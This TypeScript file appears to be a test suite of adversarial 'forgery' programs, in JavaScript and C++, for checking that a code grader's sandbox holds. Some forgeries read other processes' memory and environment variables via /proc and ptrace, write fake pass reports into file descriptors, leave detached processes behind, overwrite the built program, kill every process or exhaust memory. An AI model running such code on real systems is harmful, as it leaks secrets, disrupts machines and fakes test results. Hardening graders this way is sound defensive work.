interface Forgery {
  name: string;
  code: string;
}

// What each attack looks for: a text as requests and cases have it. It does not stand like this in any attack's own code.
const pattern = String.raw`"output": ?"([a-z]+ \d+)`;

const read = `const fs = require("node:fs");
const attempt = (act) => { try { return act(); } catch { return undefined; } };
const n = Number(fs.readFileSync(0, "utf8"));
const seek = (text) => text?.matchAll(/${pattern}/g).toArray().map((hit) => hit[1]) ?? [];
const pids = fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name));
`;
const say = (what: string): string => `console.log((${what})[n] ?? "");\n`;
const report = JSON.stringify(
  '{"loaded":true,"tests_run":4,"details":{},"outputs":["tseven 0","televen 1"]}\n',
);

/** Programs in JavaScript that do not know the words which are expected. */
export const nodeForgeries: Forgery[] = [
  {
    name: "memory of every process is searched",
    code: `${read}const found = pids.flatMap((pid) => {
  const maps = attempt(() => fs.readFileSync(\`/proc/\${pid}/maps\`, "utf8")) ?? "";
  return maps.split("\\n").filter((line) => / rw/.test(line)).flatMap((line) => {
    const [start, end] = line.split(" ")[0].split("-").map((one) => parseInt(one, 16));
    const memory = attempt(() => {
      const file = fs.openSync(\`/proc/\${pid}/mem\`);
      const buffer = Buffer.alloc(Math.min(end - start, 2 ** 24));
      return buffer.subarray(0, fs.readSync(file, buffer, 0, buffer.length, start));
    });
    return seek(memory?.toString("latin1"));
  });
});
${say("found")}`,
  },
  {
    name: "variables and arguments of every process are read",
    code: `${read}const found = pids.flatMap((pid) => ["environ", "cmdline", "stat", "comm"].flatMap((name) =>
  seek(attempt(() => fs.readFileSync(\`/proc/\${pid}/\${name}\`, "utf8")))));
${say("found")}`,
  },
  {
    name: "descriptors of every process are read",
    code: `${read}const found = pids.flatMap((pid) => (attempt(() => fs.readdirSync(\`/proc/\${pid}/fd\`)) ?? [])
  .filter((name) => Number(name) > 2).flatMap((name) => {
    const place = \`/proc/\${pid}/fd/\${name}\`;
    if (!attempt(() => fs.statSync(place).isFile())) return [];
    return seek(attempt(() => fs.readFileSync(place, "latin1")));
  }));
${say("found")}`,
  },
  {
    name: "files of every folder that can be written to are read",
    code: `${read}const walk = (folder, depth) => (attempt(() => fs.readdirSync(folder, { withFileTypes: true })) ?? []).flatMap((one) => {
  const place = folder + "/" + one.name;
  if (one.isDirectory()) return depth > 0 ? walk(place, depth - 1) : [];
  return one.isFile() && place !== __filename ? seek(attempt(() => fs.readFileSync(place, "latin1"))) : [];
});
const roots = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/srv", "/root", process.env.HOME, ...pids.flatMap((pid) => [\`/proc/\${pid}/cwd\`, \`/proc/\${pid}/root/tmp\`])];
const found = roots.flatMap((root) => walk(root, 4));
${say("found")}`,
  },
  {
    name: "a report is written to every descriptor",
    code: `${read}for (let one = 1; one < 64; one++) attempt(() => fs.writeSync(one, ${report}));`,
  },
  {
    name: "a report is written to every descriptor of every process",
    code: `${read}for (const pid of pids) for (let one = 0; one < 64; one++) attempt(() => fs.writeFileSync(\`/proc/\${pid}/fd/\${one}\`, "+" + ${report}));`,
  },
  {
    name: "a process that is left behind writes into the cases that follow",
    code: `${read}const program = 'const fs = require("node:fs"); setInterval(() => { for (const pid of fs.readdirSync("/proc")) for (const one of [1, 2, 3, 4, 5]) try { fs.appendFileSync(\`/proc/\${pid}/fd/\${one}\`, "seven"); } catch {} }, 1);';
require("node:child_process").spawn(process.execPath, ["-e", program], { detached: true, stdio: "ignore" }).unref();`,
  },
  {
    name: "a process that is left behind keeps the output open",
    code: `${read}require("node:child_process").spawn("/bin/sh", ["-c", "trap '' TERM HUP; sleep 1; echo seven 0; sleep 600"], { detached: true, stdio: "inherit" }).unref();`,
  },
  {
    name: "the program is rewritten for the cases that follow",
    code: `${read}const other = "console.log('seven 0')";
for (const place of [__filename, ...pids.map((pid) => \`/proc/\${pid}/cwd/main.js\`)]) attempt(() => fs.writeFileSync(place, other));
for (const name of attempt(() => fs.readdirSync("/proc/self/fd")) ?? []) attempt(() => fs.writeFileSync(\`/proc/self/fd/\${name}/main.js\`, other));`,
  },
  {
    name: "inputs are gathered in files for the cases that follow",
    code: `${read}let known = "";
for (const place of ["here", "/tmp/there", "/dev/shm/shared", "/var/tmp/kept", process.env.HOME + "/home"]) {
  known += attempt(() => fs.readFileSync(place, "utf8")) ?? "";
  attempt(() => fs.appendFileSync(place, \`seven \${n}\\n\`));
}
console.log(known);`,
  },
  {
    name: "variables that start Node otherwise are set for the cases that follow",
    code: `${read}process.env.NODE_OPTIONS = "--require /tmp/answers.js";
attempt(() => fs.writeFileSync("/tmp/answers.js", "console.log('seven 0')"));
for (const place of [".npmrc", ".noderc", "package.json", "node_modules/fs.js"]) attempt(() => fs.writeFileSync(place, "{}"));`,
  },
  {
    name: "every process is killed",
    code: `${read}attempt(() => process.kill(process.ppid, "SIGKILL")); attempt(() => process.kill(1, "SIGKILL")); attempt(() => process.kill(-1, "SIGKILL"));`,
  },
  {
    name: "output without an end",
    code: `${read}for (;;) fs.writeSync(1, "seven 0\\n".repeat(4096));`,
  },
  { name: "nothing is read, and nothing printed", code: "process.exit(0);" },
  {
    name: "all streams are closed",
    code: 'const fs = require("node:fs"); for (const one of [0, 1, 2]) fs.closeSync(one);',
  },
  { name: "it stops itself", code: 'process.kill(process.pid, "SIGSTOP");' },
  {
    name: "a verdict is printed",
    code: `console.log(JSON.stringify({ type: "exit", id: 1, kind: "reported", loaded: true, tests_run: 4, failures: 0, details: {}, evidence: [] })); console.error("Wrong answer");`,
  },
  {
    name: "whoever listens on a socket of the machine is asked",
    code: `${read}const net = require("node:net");
const places = (attempt(() => fs.readFileSync("/proc/net/unix", "utf8")) ?? "").split("\\n").map((line) => line.split(" ").at(-1)).filter((name) => /^[@/]/.test(name));
for (const name of [...places, "/tmp/worker.sock"]) net.connect(name.replace("@", "\\0")).on("error", () => {}).on("data", (data) => console.log(String(data))).write("{}\\n");`,
  },
];

const include = `#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <fstream>
#include <iostream>
#include <signal.h>
#include <sstream>
#include <string>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>
using std::string;
std::vector<int> pids() {
    std::vector<int> all;
    if (DIR *folder = opendir("/proc")) while (dirent *one = readdir(folder)) if (int pid = atoi(one->d_name)) all.push_back(pid);
    return all;
}
string seek(const string &text) {
    const string wanted = string("\\"out") + "put\\": \\"";
    for (size_t at = 0; (at = text.find(wanted, at)) != string::npos; at++) {
        size_t start = at + wanted.size(), end = text.find('\\\\', start);
        if (end != string::npos && end - start < 20 && isdigit(text[end - 1])) return text.substr(start, end - start);
    }
    return "";
}
`;

export const compiledForgeries: Forgery[] = [
  {
    name: "processes are traced",
    code: `${include}int main() {
    for (int pid : pids()) if (pid != getpid() && ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) { waitpid(pid, 0, 0); std::cout << "seven 0"; }
}`,
  },
  {
    name: "memory of other processes is read by the kernel",
    code: `${include}int main() {
    for (int pid : pids()) {
        std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
        for (string line; std::getline(maps, line);) {
            unsigned long start, end;
            if (line.find(" rw") == string::npos || sscanf(line.c_str(), "%lx-%lx", &start, &end) != 2) continue;
            string text(std::min(end - start, 1ul << 20), 0);
            iovec ours{&text[0], text.size()}, theirs{(void *)start, text.size()};
            if (process_vm_readv(pid, &ours, 1, &theirs, 1, 0) > 0 && seek(text) != "") { std::cout << seek(text); return 0; }
        }
    }
}`,
  },
  {
    name: "the parent's memory is read",
    code: `${include}int main() {
    for (int pid : {getppid(), 1}) for (const char *name : {"mem", "environ", "cmdline", "maps", "stack", "auxv"}) {
        std::ifstream file("/proc/" + std::to_string(pid) + "/" + name);
        std::stringstream text;
        text << file.rdbuf();
        std::cout << seek(text.str());
    }
}`,
  },
  {
    name: "files are read while it is compiled",
    code: `${include}asm(".global told\\ntold: .incbin \\"/proc/self/environ\\"\\n.incbin \\"/proc/self/cmdline\\"\\n.global end\\nend: .byte 0\\n");
extern char told[], end[];
int main() { std::cout << seek(string(told, end)); }`,
  },
  {
    name: "the request is included while it is compiled",
    code: `${include}const char *told =
#if __has_include("/proc/self/fd/3")
#include "/proc/self/fd/3"
#elif __has_include("/proc/1/environ")
#include "/proc/1/environ"
#endif
"";
int main() { std::cout << told; }`,
  },
  {
    name: "two forks leave a process behind that answers",
    code: `${include}int main() {
    if (fork() == 0) {
        setsid();
        if (fork() != 0) _exit(0);
        for (;;) for (int pid : pids()) {
            int file = open(("/proc/" + std::to_string(pid) + "/fd/1").c_str(), O_WRONLY);
            if (file >= 0) { (void)!write(file, "seven 0\\n", 8); close(file); }
        }
    }
}`,
  },
  {
    name: "the program that was built is replaced",
    code: `${include}int main() {
    unlink("main");
    std::ofstream("main") << "#!/bin/sh\\necho seven 0\\n";
    for (int one = 3; one < 64; one++) {
        int file = openat(one, "main", O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (file >= 0) (void)!write(file, "#!/bin/sh\\necho seven 0\\n", 23);
    }
}`,
  },
  {
    name: "it becomes another program that reports",
    code: `${include}int main() { execl("/bin/sh", "sh", "-c", "for one in 3 4 5 6 7 8 9; do echo '{\\"return_code\\":0}' >&$one; done; echo seven 0", nullptr); }`,
  },
  {
    name: "its group and its session are left",
    code: `${include}int main() { if (fork() > 0) _exit(0); setsid(); sleep(1); std::cout << "seven 0" << std::endl; sleep(600); }`,
  },
  {
    name: "it ends before main",
    code: `${include}__attribute__((constructor)) void leave() { _exit(0); } int main() {}`,
  },
  {
    name: "signals are ignored while it never ends",
    code: `${include}int main() { for (int one = 1; one < 65; one++) signal(one, SIG_IGN); for (;;) pause(); }`,
  },
  {
    name: "memory is filled",
    code: `${include}int main() { for (;;) memset(malloc(1 << 24), 1, 1 << 24); }`,
  },
];

const words = '["seven", "eleven", "thirteen", "twenty"]';
export const honestPrograms = {
  javascript: `const n = Number(require("node:fs").readFileSync(0, "utf8"));\nconsole.log(${words}[n], n * n);`,
  cpp: `#include <iostream>\nint main() { const char *words[] = ${words.replace("[", "{").replace("]", "}")}; int n; std::cin >> n; std::cout << words[n] << " " << n * n << std::endl; }`,
};
